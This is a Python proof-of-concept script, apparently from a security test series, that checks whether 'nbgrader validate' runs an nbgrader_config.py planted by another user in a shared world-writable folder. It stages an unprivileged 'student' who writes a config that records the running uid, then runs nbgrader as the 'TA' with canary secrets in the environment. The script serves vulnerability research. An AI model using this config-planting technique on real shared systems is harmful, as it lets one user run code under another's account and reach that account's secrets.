"""a16: does nbgrader validate read nbgrader_config.py from the NOTEBOOK's folder (not the one it runs in)? The TA's own
notebook sits in a shared writable folder (sticky 1777 stand-in for /tmp) beside a student's nbgrader_config.py; the
TA runs `nbgrader validate /that/folder/notes.ipynb` from her home, PYTHONSAFEPATH=1 set (a09's fix)."""
import os, subprocess, sys
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
import nbformat
d = "/tmp/attack44-root-a16"
subprocess.run(["rm", "-rf", d]); os.makedirs(d); os.chmod(d, 0o1777)
STUDENT = f"""
import os
os.setgid(65534); os.setuid(65534)
open({d + '/nbgrader_config.py'!r}, 'w').write("import os, json\\nopen({d + '/PWNED.json'!r}, 'w').write(json.dumps({{'uid': os.getuid()}}))\\n")
"""
subprocess.run([sys.executable, "-c", STUDENT], check=True)
nb = nbformat.v4.new_notebook(); nb.cells = [nbformat.v4.new_code_cell("x = 1")]
nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
nbformat.write(nb, f"{d}/notes.ipynb")
env = dict(os.environ, PYTHONSAFEPATH="1", DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
r = subprocess.run(["CLONE/.venv/bin/nbgrader", "validate", f"{d}/notes.ipynb"], cwd=os.path.expanduser("~"), env=env,
                   capture_output=True, text=True, timeout=180)
print("rc", r.returncode, r.stdout[-200:])
print("PWNED:", open(f"{d}/PWNED.json").read() if os.path.exists(f"{d}/PWNED.json") else "nothing ran")
